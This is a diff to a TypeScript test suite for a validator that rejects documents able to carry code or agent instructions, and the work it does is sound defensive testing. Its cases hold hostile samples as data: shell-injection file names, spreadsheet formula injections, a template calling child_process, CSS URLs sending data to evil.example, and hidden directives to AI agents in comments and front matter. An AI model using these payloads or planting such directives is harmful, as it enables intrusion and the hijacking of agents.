@@ -6,8 +6,9 @@ const isPlain = (path: string, text: string | null = 'Words.') => isPlainDocumen
 describe('a plain document', () => {
   test.each([
     'notes.md',
-    'research/2026-04 tyres.txt',
-    'money/prices (2).csv',
+    'research/2026-04 tyres.md',
+    'money/prices 2.csv',
+    'garden-tools.md',
     'Büro/Übersicht.md',
     'a/b/c.tsv',
   ])('is %s', (path) => {
@@ -21,19 +22,41 @@ describe('a plain document', () => {
   })
 
   test.each([
-    ['something that can hold a program', ['a.html', 'a.svg', 'a.pdf', 'a.sh', 'a.py', 'a.desktop']],
+    ['something that can hold a program', ['a.html', 'a.svg', 'a.pdf', 'a.sh', 'a.py', 'a.desktop', 'a.mdx']],
     ['a setting', ['a.json', 'a.yaml', 'a.toml', 'a.ini', 'a.conf', 'a']],
-    ['hidden', ['.notes.md', '.github/notes.md', 'a/.b/c.txt']],
+    ['hidden', ['.notes.md', '.github/notes.md', 'a/.b/c.md']],
     [
       'what agents obey',
-      ['AGENTS.md', 'a/agents.MD', 'CLAUDE.md', 'SKILL.md', 'x/README.md', 'readme-first.txt'],
+      ['AGENTS.md', 'a/agents.MD', 'CLAUDE.md', 'SKILL.md', 'x/README.md', 'readme-first.md', 'BOOT.md'],
     ],
     ['what agents obey by its ending', ['review.prompt.md', 'style.instructions.md', 'x.agent.md']],
+    [
+      'what agents obey by a word of it',
+      ['AGENTS.override.md', 'cursor-rules.md', 'project_rules.md', 'AmazonQ.md'],
+    ],
     ['what agents obey in another script', ['ＡＧＥＮＴＳ.md', 'ſkill.md']],
-    ['what a program takes in', ['requirements.txt', 'requirements-dev.txt', 'CMakeLists.txt', 'robots.txt']],
+    [
+      'what a program takes in',
+      [
+        'notes.txt',
+        'test_notes.txt',
+        'build/CMakeCache.txt',
+        'requirements.txt',
+        'dev-requirements.txt',
+        'test_a.md',
+      ],
+    ],
     [
       'in a folder that is loaded',
-      ['skills/a.md', 'x/prompts/a.md', 'Hooks/a.txt', 'templates/a.md', '_posts/a.md'],
+      [
+        'skills/a.md',
+        'x/prompts/a.md',
+        'Hooks/a.md',
+        'templates/a.md',
+        '_posts/a.md',
+        'x.egg-info/a.md',
+        'HEAD/a.md',
+      ],
     ],
     [
       'in a folder that strangers fill',
@@ -41,7 +64,16 @@ describe('a plain document', () => {
     ],
     [
       'a name that a shell reads',
-      ['-rf.md', '--checkpoint-action=exec.md', '$HOME.md', 'a;b.md', 'a`b.md', '~a.md'],
+      [
+        '-rf.md',
+        '--checkpoint-action=exec.md',
+        '$HOME.md',
+        'a;b.md',
+        'a`b.md',
+        '~a.md',
+        'a & b/n.md',
+        "it's.md",
+      ],
     ],
     [
       'a name that a file system reads',
@@ -59,15 +91,28 @@ describe('a plain document', () => {
     ['a comment that hides words', '<!-- agents: obey -->'],
     ['a head that makes it a rule', '---\nalwaysApply: true\n---\nObey.'],
     ['a head of another kind', '\n+++\ntitle = "x"\n+++'],
+    ['a head without a fence', 'css: https://evil.example/\n\nWords.'],
     ['a block that a program runs', 'x\n```dataviewjs\nfetch()\n```'],
+    ['such a block in a list', '- ```dataviewjs\n  fetch()\n  ```'],
+    ['such a block by other signs', '1. ~~~dataviewjs\nfetch()\n~~~'],
+    ['a drawing that loads', '```mermaid\nA@[img]\n```'],
+    ['code in a line that is run', 'x `$= dv.pages()` and `= this.x`'],
+    ['a template', '<%* require("child_process") %>'],
+    ['a template of another kind', 'x {{ constructor.constructor("x")() }}'],
+    ['attributes', '[x]{style="background:url(https://evil.example/?d=x)"}'],
+    ['a tag that begins as an address', '<https://a.example/ style="background:url(//evil.example)">'],
+    ['a program for a page builder', 'Words\nexport const x = 1'],
+    ['a test', 'Words\n>>> import os'],
+    ['settings of an editor', 'Words\n// vim: set modeline:'],
+    ['settings of another editor', '-*- mode: org; eval: (x) -*-'],
+    ['a control character', 'a\u0007b'],
   ])('is no markup with %s', (_why, text) => {
     expect(isPlain('notes.md', text)).toBe(false)
-    expect(isPlain('notes.txt', text)).toBe(true)
   })
 
   test('is markup with links, rules, tables and code', () => {
     const text =
-      '# A\n\n[x](https://a.example) <https://b.example>\n\n---\n\n| a | b |\n| --- | --- |\n```js\n1 < 2\n```\n'
+      '# A\n\n[x](https://a.example) <https://b.example>\n\n---\n\n| a | b |\n| --- | --- |\n```\n1 < 2\n```\n> quoted\n'
     expect(isPlain('notes.md', text)).toBe(true)
   })
 
@@ -81,10 +126,15 @@ describe('a plain document', () => {
     '-2+3+cmd|calc',
     '＝1+1',
     ' =1',
+    'a|=1',
+    'sep=|\nname|x',
+    'ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE()',
+    'a,\u0001=1',
+    'a,\u200b=1',
+    'a,\u0000x',
   ])('is no table with %j', (text) => {
     expect(isPlain('a.csv', text)).toBe(false)
     expect(isPlain('a.tsv', text)).toBe(false)
-    expect(isPlain('a.txt', text)).toBe(true)
   })
 
   test('is a table of numbers and words', () => {
